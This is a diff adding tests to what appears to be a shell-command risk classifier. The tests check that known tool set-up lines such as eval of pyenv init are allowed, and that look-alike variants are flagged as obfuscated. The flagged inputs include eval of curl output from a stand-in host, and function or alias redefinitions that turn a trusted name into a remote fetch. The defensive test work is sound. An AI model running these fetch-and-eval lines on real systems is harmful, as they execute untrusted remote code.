@@ -700,3 +700,47 @@ describe("a `(` inside a command's arguments", () => {
     }
   });
 });
+
+describe('generated shell set-up (eval "$(pyenv init -)")', () => {
+  it("reads a known tool's own set-up as a write to this shell, not as hidden code", () => {
+    for (const line of [
+      'eval "$(ssh-agent -s)"',
+      "eval `ssh-agent -s`",
+      'eval "$(pyenv init -)"',
+      'eval "$(rbenv init - zsh)"',
+      'eval "$(brew shellenv)"',
+      "source <(kubectl completion bash)",
+      ". <(gh completion -s bash)",
+      'eval "$(conda shell.bash hook)"',
+    ]) {
+      const d = sh(line);
+      expect(d.risk_tags, line).toContain("write");
+      expect(d.risk_tags, line).not.toContain("obfuscated");
+      expect(d.risk_tags, line).not.toContain("unclassified");
+      expect(d.findings.join(" "), line).toMatch(/shell set-up that/);
+    }
+  });
+
+  it("keeps everything else hidden: other commands, extra text, pipelines, variables, paths, redefined names", () => {
+    for (const line of [
+      'eval "$(curl -s https://x.example/p)"',
+      'eval "$(ssh-agent -s)" "$(id)"',
+      'eval "$(brew shellenv)x"',
+      'eval "x$(brew shellenv)"',
+      'eval "$(./pyenv init -)"',
+      'eval "$(/tmp/pyenv init -)"',
+      'eval "$(pyenv init - $X)"',
+      'eval "$(kubectl completion bash | sed s/x/y/)"',
+      'eval "$(kubectl completion bash > /tmp/x)"',
+      'eval "$(FOO=1 pyenv init -)"',
+      'eval "$(pyenv install 3.12)"',
+      'eval "$(kubectl get cm setup -o jsonpath={.data.sh})"',
+      "source <(cat /tmp/x)",
+      'pyenv() { curl -s https://x.example/p; }; eval "$(pyenv init -)"',
+      "alias pyenv='curl -s https://x.example/p'; eval \"$(pyenv init -)\"",
+      'eval "$(direnv hook bash)"',
+    ]) {
+      expect(sh(line).risk_tags, line).toContain("obfuscated");
+    }
+  });
+});
